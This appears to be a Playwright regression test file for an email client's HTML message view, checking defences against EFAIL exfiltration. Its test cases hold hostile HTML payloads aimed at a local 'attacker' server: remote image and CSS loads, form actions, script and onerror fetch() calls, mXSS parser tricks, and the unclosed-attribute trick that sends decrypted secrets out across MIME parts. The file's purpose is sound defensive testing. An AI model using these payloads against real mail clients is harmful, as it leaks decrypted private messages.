// EFAIL regression tests: hostile decrypted HTML, rendered by the real SafeMessageView in Debian's
// Chromium, must not make a single request to the attacker's server. Each case is checked three
// ways: the whole view (nothing reaches the attacker server, nothing in the browser's request log,
// and the text is still shown), the sanitiser alone (no attacker URL survives in its output), and,
// for resource loads, the frame's sandbox and CSP alone on the unsanitised HTML. A control shows
// that the harness does see a leak from an unguarded frame. Screenshots go to dist/e2e-screenshots/.
import { mkdirSync } from 'node:fs';
import { join } from 'node:path';
import type { Frame, Page } from 'playwright-core';
import { htmlMessage, launchChromium, mixed, startAttacker, startPageServer, type Browser, type PageServer, type RecordingServer } from '../helpers/efail-harness.js';

const root = join(__dirname, '..', '..');
const shots = join(root, 'dist', 'e2e-screenshots');
const VISIBLE = 'Synlig text 4711';
const SETTLE_MS = 1200;

let attacker: RecordingServer;
let server: PageServer;
let browser: Browser;
let A: string;

beforeAll(async () => {
  mkdirSync(shots, { recursive: true });
  attacker = await startAttacker();
  A = attacker.origin;
  server = await startPageServer(root);
  browser = await launchChromium();
}, 120_000);

afterAll(async () => {
  await browser?.close();
  await server?.close();
  await attacker?.close();
});

async function openPage(): Promise<Page> {
  const page = await browser.context.newPage();
  await page.goto(server.url);
  await page.waitForFunction(() => 'kuvert' in window);
  attacker.reset();
  browser.reset();
  return page;
}

async function render(page: Page, mime: string, language: 'sv' | 'en' = 'sv'): Promise<Frame[]> {
  await page.evaluate(([m, l]) => (window as unknown as { kuvert: { render(m: string, l: string): void } }).kuvert.render(m, l), [mime, language] as const);
  await page.waitForSelector('[data-testid="safe-message-view"]');
  const handles = await page.$$('[data-testid="html-part"]');
  const frames: Frame[] = [];
  for (const h of handles) {
    const f = await h.contentFrame();
    if (f) {
      await f.waitForLoadState('load');
      frames.push(f);
    }
  }
  await page.waitForTimeout(SETTLE_MS);
  return frames;
}

const own = (u: string) => u.startsWith(server.url) || u.startsWith('data:') || u.startsWith('blob:') || u === 'about:srcdoc';

/** What reached the attacker, and every request the browser even started for anything but the test page. */
function leaked(layer: string): { layer: string; server: typeof attacker.requests; connections: number; browser: string[] } {
  return { layer, server: [...attacker.requests], connections: attacker.connections, browser: browser.requests.filter((u) => !own(u)) };
}

const nothing = (layer: string) => ({ layer, server: [], connections: 0, browser: [] });

/** For the frame-alone layer: requests the browser started but Chromium blocked (CSP, sandbox) before they left. */
function leakedPastBlocks(layer: string): { layer: string; server: typeof attacker.requests; connections: number; browser: string[] } {
  // Any request Chromium failed before it reached the attacker counts as stopped (CSP, sandbox, or
  // SVG <use>'s same-origin rule, which fails as ERR_FAILED/ERR_ABORTED): whether anything left is
  // decided by the attacker's own request and connection log, asserted alongside.
  const blocked = new Set(browser.failed.map((f) => f.url));
  return { layer, server: [...attacker.requests], connections: attacker.connections, browser: browser.requests.filter((u) => !own(u) && !blocked.has(u)) };
}

async function frameText(frames: Frame[]): Promise<string> {
  let text = '';
  for (const f of frames) text += `${await f.locator('body').innerText()}\n`;
  return text;
}

interface Case {
  readonly name: string;
  readonly html: () => string;
  /** Something a user might do, e.g. press a button in the message. */
  readonly interact?: (frames: Frame[]) => Promise<void>;
  /** The sandbox and CSP alone also stop it (resource loads; not navigations). */
  readonly frameAlone?: boolean;
}

const clickEverything = async (frames: Frame[]) => {
  for (const f of frames) {
    for (const el of await f.$$('button, input, a, [data-kuvert-link]')) await el.click({ force: true, timeout: 2000 }).catch(() => undefined);
  }
};

const CASES: Case[] = [
  { name: 'remote <img>', html: () => `<p>${VISIBLE}</p><img src="${A}/img" alt="logo"><img src="//localhost:${attacker.port}/protocol-relative">`, frameAlone: true },
  { name: 'srcset and <picture>', html: () => `<p>${VISIBLE}</p><img srcset="${A}/srcset 1x, ${A}/srcset2 2x" alt="a"><picture><source srcset="${A}/picture"><img alt="b"></picture>`, frameAlone: true },
  {
    name: 'CSS url() in a style attribute (plain and escaped)',
    html: () => `<div style="background-image:url('${A}/style-attr');width:20px;height:20px">${VISIBLE}</div><div style="background:u\\72l(${A}/style-escaped);height:9px">x</div><p style="cursor:url(${A}/cursor),auto;list-style-image:url(${A}/list)">y</p>`,
    frameAlone: true,
  },
  {
    name: 'CSS url() in <style>',
    html: () => `<html><head><style>body{background:url(${A}/style-head)} p::before{content:url(${A}/before)}</style></head><body><style>div{border-image:url(${A}/border) 30;--x:url(${A}/custom);background:var(--x)} @media screen{p{background-image:image-set("${A}/image-set" 1x)}}</style><p>${VISIBLE}</p><div>d</div></body></html>`,
    frameAlone: true,
  },
  { name: '@import', html: () => `<style>@import url(${A}/import.css); @import "${A}/import2.css"; p{color:red}</style><p>${VISIBLE}</p>`, frameAlone: true },
  {
    name: '@font-face (remote font)',
    html: () => `<style>@font-face{font-family:spy;src:url(${A}/font.woff2) format("woff2"),local(Arial)} p{font-family:spy}</style><p>${VISIBLE}</p>`,
    frameAlone: true,
  },
  {
    name: '<link rel=stylesheet/prefetch/dns-prefetch/preconnect/preload>',
    html: () =>
      ['stylesheet', 'prefetch', 'dns-prefetch', 'preconnect', 'preload', 'icon', 'modulepreload'].map((rel) => `<link rel="${rel}" href="${A}/link-${rel}" as="image">`).join('') + `<p>${VISIBLE}</p>`,
    // Not frameAlone: Chromium's CSP does not govern preconnect, which opens a TCP connection to
    // the attacker from the sandboxed frame (seen in this test); only the sanitiser removes it.
  },
  {
    name: '<form action> with its submit button clicked',
    html: () => `<p>${VISIBLE}</p><form action="${A}/form" method="get"><input name="q" value="hemligt"><button type="submit">Skicka</button><input type="image" src="${A}/input-image" alt="go"></form><button form="f2" formaction="${A}/formaction">Två</button>`,
    interact: clickEverything,
    frameAlone: true,
  },
  { name: '<meta http-equiv=refresh>', html: () => `<meta http-equiv="refresh" content="0;url=${A}/refresh"><p>${VISIBLE}</p>` },
  { name: '<base href>', html: () => `<base href="${A}/base/"><p>${VISIBLE}</p><img src="pic.png" alt="p"><a href="page.html">relativ länk</a>`, interact: clickEverything, frameAlone: true },
  {
    name: '<svg><image href> and other SVG references',
    html: () => `<p>${VISIBLE}</p><svg width="20" height="20"><image href="${A}/svg-image" width="20" height="20"/><image xlink:href="${A}/svg-xlink"/><use href="${A}/use.svg#x"/><style>@import url(${A}/svg-import.css);</style><feImage href="${A}/feimage"/></svg><math><mi xlink:href="${A}/math">m</mi></math>`,
    frameAlone: true,
  },
  { name: '<video poster> and media sources', html: () => `<p>${VISIBLE}</p><video poster="${A}/poster" src="${A}/video.mp4" preload="auto"><source src="${A}/source.webm"><track src="${A}/track.vtt"></video><audio src="${A}/audio.ogg" preload="auto"></audio>`, frameAlone: true },
  { name: '<object data> and <embed>', html: () => `<p>${VISIBLE}</p><object data="${A}/object"></object><embed src="${A}/embed"><applet code="x" codebase="${A}/applet"></applet>`, frameAlone: true },
  { name: '<iframe src>', html: () => `<p>${VISIBLE}</p><iframe src="${A}/iframe"></iframe><iframe srcdoc="&lt;img src=${A}/nested-srcdoc&gt;"></iframe><frameset><frame src="${A}/frame"></frameset>`,
    // Not frameAlone: with the unsanitised HTML, Chromium blocks the frame's request by CSP but
    // still opens a TCP connection to the attacker (seen in this test); only the sanitiser stops it.
  },
  {
    name: 'background attribute',
    html: () => `<table background="${A}/table-bg"><tr><td background="${A}/td-bg">${VISIBLE}</td></tr></table><div background="${A}/div-bg">x</div>`,
    frameAlone: true,
  },
  {
    name: 'script, event handlers and mXSS parser tricks',
    html: () =>
      `<p>${VISIBLE}</p><img src=x onerror="fetch('${A}/onerror')"><script>fetch('${A}/script')</script>` +
      `<noscript><p title="</noscript><img src=${A}/noscript>"></noscript>` +
      `<svg><p><style><img src=${A}/mxss-svg-style></style></p></svg>` +
      `<math><mtext><table><mglyph><style><img src=${A}/mxss-math>` +
      `<!--<img src="--><img src=${A}/comment>-->` +
      `<div style="background:url(&#104;ttp://localhost:${attacker.port}/entity)">e</div>` +
      `<details open ontoggle="fetch('${A}/ontoggle')">d</details>`,
    interact: clickEverything,
  },
  {
    name: 'a link is not followed without a click on its opener',
    html: () => `<p>${VISIBLE}</p><a href="${A}/link" ping="${A}/ping">Klicka här</a> <a href="javascript:fetch('${A}/js')">js</a> <area href="${A}/area">`,
    interact: clickEverything,
  },
];

describe('EFAIL: hostile decrypted HTML makes no request', () => {
  it('control: the harness sees a leak from an unguarded frame (so the tests below can fail)', async () => {
    const page = await openPage();
    await page.evaluate((h) => (window as unknown as { kuvert: { rawFrame(h: string, g: boolean): void } }).kuvert.rawFrame(h, false), `<img src="${A}/control">`);
    await page.waitForTimeout(SETTLE_MS);
    expect(attacker.requests.map((r) => r.url)).toContain('/control');
    expect(leaked('control').browser).toContain(`${A}/control`);
    await page.close();
  }, 30_000);

  for (const c of CASES) {
    it(c.name, async () => {
      const page = await openPage();
      const frames = await render(page, htmlMessage(c.html()));
      if (c.interact) await c.interact(frames);
      await page.waitForTimeout(c.interact ? SETTLE_MS : 0);
      expect(leaked('view')).toEqual(nothing('view'));
      expect(await frameText(frames)).toContain(VISIBLE);
      expect(page.url()).toBe(server.url);
      expect(await page.locator('[data-testid="blocked-notice"]').count()).toBe(1);
      for (const f of frames) expect(f.url()).toBe('about:srcdoc');

      // The sanitiser alone leaves no attacker URL in the document; a link target is kept only
      // as data (the title that shows it, and the list outside the frame).
      const clean = await page.evaluate((h) => (window as unknown as { kuvert: { sanitize(h: string): { styles: string; body: string } } }).kuvert.sanitize(h), c.html());
      const output = `${clean.styles}${clean.body}`.replace(/ title="[^"]*"/g, '');
      expect(output).not.toContain(`localhost:${attacker.port}`);
      expect(output).not.toMatch(/\s(href|src|srcset|action|formaction|poster|background|ping)=/i);
      expect(output).not.toMatch(/<(script|form|meta|link|base|iframe|object|embed|svg|math|video|input|button)\b/i);

      // The sandbox and CSP alone stop the loads too, on the unsanitised HTML.
      if (c.frameAlone) {
        attacker.reset();
        browser.reset();
        await page.evaluate((h) => (window as unknown as { kuvert: { rawFrame(h: string, g: boolean): void } }).kuvert.rawFrame(h, true), c.html());
        await page.waitForTimeout(SETTLE_MS);
        await browser.settle((u) => !own(u), 15_000); // a loaded machine may take seconds to fail a request
        expect(leakedPastBlocks('frame alone')).toEqual(nothing('frame alone'));
      }
      await page.close();
    }, 60_000);
  }

  it('the classic unclosed-attribute trick across MIME parts (secret part in HTML)', async () => {
    const page = await openPage();
    const secret = 'Hemligt: personnummer 19121212-1212';
    const message = mixed(
      `Content-Type: text/html\n\n<img src="${A}/efail?`,
      `Content-Type: text/html; charset=utf-8\n\n<p>${secret}</p>`,
      'Content-Type: text/html\n\n">',
    );
    const frames = await render(page, message);
    expect(leaked('view')).toEqual(nothing('view'));
    expect(frames).toHaveLength(3); // three parts, three frames: never joined
    expect(await frames[1]!.locator('body').innerText()).toContain(secret);
    expect(await frames[0]!.locator('[src], [srcset]').count()).toBe(0);
    expect(await frames[2]!.locator('body').innerText()).toContain('">');
    await page.screenshot({ path: join(shots, 'efail-unclosed-attribute.png'), fullPage: true });
    await page.close();
  }, 60_000);

  const OPENERS: readonly { name: string; open: (a: string) => string; close: string }[] = [
    { name: 'img src', open: (a) => `<img src="${a}/efail?`, close: '">' },
    { name: 'CSS url(', open: (a) => `<style>body{background:url(${a}/efail?`, close: ')}</style>' },
    { name: 'a href', open: (a) => `<a href="${a}/efail?`, close: '">weiter</a>' },
    { name: 'background attribute', open: (a) => `<table background="${a}/efail?`, close: '"><tr><td>x</td></tr></table>' },
    { name: 'link href', open: (a) => `<link rel="stylesheet" href="${a}/efail?`, close: '">' },
  ];
  for (const opener of OPENERS) {
    it(`the unclosed-attribute trick across MIME parts, opened by ${opener.name}`, async () => {
      const page = await openPage();
      const secret = 'Hemligt 19121212-1212';
      const frames = await render(page, mixed(`Content-Type: text/html\n\n${opener.open(A)}`, `Content-Type: text/html\n\n<p>${secret}</p>`, `Content-Type: text/html\n\n${opener.close}`));
      await clickEverything(frames);
      await page.waitForTimeout(SETTLE_MS);
      expect(leaked('view')).toEqual(nothing('view'));
      expect(await frames[1]!.locator('body').innerText()).toContain(secret);
      for (const target of await page.locator('[data-testid="link-target"]').allInnerTexts()) expect(target).not.toContain('19121212');
      await page.close();
    }, 60_000);
  }

  it('the unclosed-attribute trick inside one decrypted part (a ciphertext gadget) makes no request', async () => {
    const page = await openPage();
    const frames = await render(page, htmlMessage(`<p>${VISIBLE}</p><img src="${A}/gadget?<p>Hemligt 19121212-1212</p><p>mer</p>">`));
    await clickEverything(frames);
    await page.waitForTimeout(SETTLE_MS);
    expect(leaked('view')).toEqual(nothing('view'));
    expect(await frameText(frames)).toContain(VISIBLE);
    await page.close();
  }, 60_000);

  it('the classic unclosed-attribute trick across MIME parts (secret part in plain text)', async () => {
    const page = await openPage();
    const secret = 'Hemligt: <b>inte</b> HTML 19121212-1212';
    const message = mixed(`Content-Type: text/html\n\n<img src="${A}/efail?`, `Content-Type: text/plain; charset=utf-8\n\n${secret}`, 'Content-Type: text/html\n\n">');
    await render(page, message);
    expect(leaked('view')).toEqual(nothing('view'));
    expect(await page.locator('[data-testid="text-part"]').innerText()).toBe(secret); // as text, tags shown
    await page.close();
  }, 60_000);
});
